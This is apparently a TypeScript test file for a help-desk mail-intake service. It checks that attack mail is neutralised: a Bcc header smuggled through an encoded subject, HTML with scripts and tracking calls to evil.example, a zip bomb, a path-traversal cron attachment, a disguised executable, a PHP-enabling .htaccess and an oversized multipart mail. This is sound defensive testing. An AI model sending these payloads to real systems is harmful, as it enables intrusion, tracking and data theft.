import assert from 'node:assert/strict'
import { test } from 'node:test'
import { deflateRawSync } from 'node:zlib'
import type { TicketId } from '../../src/domain/kernel.ts'
import { htmlOf } from '../../src/services/mail-in/view.ts'
import { mailDesk, ticketOf, type MailDesk } from '../support/mail-desk.ts'

/** The attack table, second half: what stands in a mail that its sender may send. The first half is mail-attacks.test.ts. */

const asha = 'Asha <asha@aurora.example>'
const byAsha = { from: asha, by: 'aurora.example' } as const

const words = async ({ get }: MailDesk, ticket: TicketId): Promise<readonly string[]> =>
  (await get(`/tickets/${ticket}/messages`, 'agent')).body.items.map(({ body }: { body: string }) => body)

test('A subject carries no line into a letter’s head (A5)', async (context) => {
  const desk = await mailDesk(context)
  const coded = Buffer.from('Help\r\nBcc: eve@evil.example\r\n\r\nHello').toString('base64')
  const ticket = ticketOf(await desk.post({ ...byAsha, subject: `=?utf-8?B?${coded}?=` }), 'open')
  const { subject } = (await desk.get(`/tickets/${ticket}`, 'agent')).body
  assert.equal(subject, 'Help Bcc: eve@evil.example Hello')
  assert.equal(await desk.count("letters where data::text ~ '[\\\\][rn]Bcc'"), 0)
  const { items: letters } = (await desk.get(`/tickets/${ticket}/letters`, 'agent')).body
  assert.equal(letters.length, 1)
  const whole = (await desk.get(`/letters/${letters[0].id}`, 'agent')).body
  assert.match(whole.subject, /Help Bcc: eve@evil\.example Hello/)
  for (const { name, value } of [...whole.headers, { name: 'Subject', value: whole.subject }]) {
    // oxlint-disable-next-line no-control-regex -- it is what must not be there
    assert.doesNotMatch(value, /[\x00-\x1f\x7f]/, name)
    assert.notEqual(name.toLowerCase(), 'bcc')
  }
  assert.deepEqual(
    whole.to.map(({ email }: { email: string }) => email),
    ['asha@aurora.example'],
  )
})

test('HTML with scripts, styles that call home and a tracking pixel is shown without any of them (A5)', async (context) => {
  const desk = await mailDesk(context)
  const html = `<html><head><style>@import url(https://evil.example/a.css); b { background: url(https://evil.example/b) }</style>
    <link rel=stylesheet href="https://evil.example/c.css"><meta http-equiv=refresh content="0;url=https://evil.example/d"></head>
    <body onload="steal()"><script>steal()</script><p style="background-image:url('https://evil.example/e')">The sum is wrong.</p>
    <img src="https://evil.example/pixel.gif?who=agent" width=1 height=1><svg onload="steal()"><image href="https://evil.example/f"/></svg>
    <a href="javascript:steal()">here</a><iframe src="https://evil.example/g"></iframe><form action="https://evil.example/h"><input name=password></form>
    <a href="https://aurora.example/report">the report</a></body></html>`
  const done = await desk.post({
    ...byAsha,
    head: ['MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8'],
    body: html,
  })
  const ticket = ticketOf(done, 'open')
  assert.match((await words(desk, ticket)).join(), /The sum is wrong\./)
  const { people, app } = desk.desk
  const agent = { kind: 'staff', person: people.agent.id, role: 'agent', desks: ['support'] } as const
  const page = await htmlOf(app, agent, done.mail, false)
  assert.ok(page.ok)
  assert.match(page.value, /The sum is wrong\./)
  assert.doesNotMatch(
    page.value,
    /<script|<style|<link|<meta|<iframe|<form|<input|<svg|onload|javascript:|url\(|steal/i,
  )
  assert.doesNotMatch(page.value, / (src|srcset|background|poster)="?https?:/i, 'nothing is fetched by being looked at')
  assert.match(page.value, /href="https:\/\/aurora\.example\/report"/)
})

/** One mail with these attachments. */
const attached = (...files: readonly (readonly [name: string, type: string, content: Buffer])[]): string =>
  [
    `From: ${asha}`,
    'To: partner-support@zohocorp.com',
    'Subject: With files',
    `Message-ID: <files-${files.map(([name]) => name.length).join('-')}@aurora.example>`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=b',
    '',
    '--b',
    '',
    'The sum is wrong.',
    ...files.flatMap(([name, type, content]) => [
      '--b',
      `Content-Type: ${type}`,
      `Content-Disposition: attachment; filename="${name}"`,
      'Content-Transfer-Encoding: base64',
      '',
      content.toString('base64').replace(/(.{76})/g, '$1\r\n'),
    ]),
    '--b--',
    '',
  ].join('\r\n')

const files = async ({ get }: MailDesk, ticket: TicketId): Promise<any[]> =>
  (await get(`/tickets/${ticket}/messages`, 'agent')).body.items.flatMap((message: any) => message.attachments)

test('A zip bomb stays as small as it came: nothing unpacks it (B4)', async (context) => {
  const desk = await mailDesk(context)
  const bomb = deflateRawSync(Buffer.alloc(200_000_000))
  assert.ok(bomb.length < 300_000)
  const ticket = ticketOf(
    await desk.deliver(attached(['report.zip', 'application/zip', bomb]), 'aurora.example'),
    'open',
  )
  const [file] = await files(desk, ticket)
  assert.deepEqual([file.name, file.bytes], ['report.zip', bomb.length])
  assert.equal(
    await desk.count(
      `(select sum(octet_length(content)) as bytes from attachment_parts) f where bytes = ${bomb.length}`,
    ),
    1,
  )
})

test('Nothing that is attached is served as something that runs: .htaccess, double endings, pages that call themselves pictures (B4)', async (context) => {
  const desk = await mailDesk(context)
  const page = Buffer.from('<html><script>steal()</script></html>')
  const ticket = ticketOf(
    await desk.deliver(
      attached(
        ['.htaccess', 'text/plain', Buffer.from('AddType application/x-httpd-php .jpg\n')],
        ['invoice.pdf.exe', 'application/pdf', Buffer.from(`MZ${'\0'.repeat(100)}PE\0\0`, 'latin1')],
        ['photo.jpg', 'image/jpeg', page],
        ['photo.jpg.html', 'text/html', page],
        ['drawing.svg', 'image/svg+xml', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="steal()"/>')],
        ['../../etc/cron.d/desk', 'text/plain', Buffer.from('* * * * * root steal\n')],
      ),
      'aurora.example',
    ),
    'open',
  )
  const found = await files(desk, ticket)
  assert.equal(found.length, 6)
  for (const { name, id, withheld } of found) {
    assert.doesNotMatch(name, /[\\/]|^\.\./, name)
    const { status, headers } = await desk.get(`/attachments/${id}`, 'agent')
    if (withheld !== null) {
      assert.equal(name, 'invoice.pdf.exe')
      assert.ok(status >= 400, name)
      continue
    }
    assert.equal(status, 200, name)
    assert.equal(headers.get('x-content-type-options'), 'nosniff', name)
    assert.match(headers.get('content-security-policy') ?? '', /sandbox/, name)
    const isText = headers.get('content-type')?.startsWith('text/plain') === true
    assert.ok(isText || headers.get('content-disposition')?.startsWith('attachment') === true, name)
    assert.doesNotMatch(headers.get('content-type') ?? '', /html|svg|script|php/, name)
  }
})

test('A mail of 10,000 parts is kept as it came and read no further, and the next one is read as ever (A5, G1)', async (context) => {
  const desk = await mailDesk(context)
  const parts = '--b\r\n\r\nx\r\n'.repeat(10_000)
  const head = `From: ${asha}\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n`
  const done = await desk.deliver(`${head}${parts}--b--\r\n`, 'aurora.example')
  assert.ok(done.state === 'parked')
  assert.match(done.error, /more than 1000 parts/)
  assert.deepEqual([await desk.count('mails_in where raw is not null'), await desk.count('tickets')], [1, 0])
  ticketOf(await desk.post(byAsha), 'open')
})
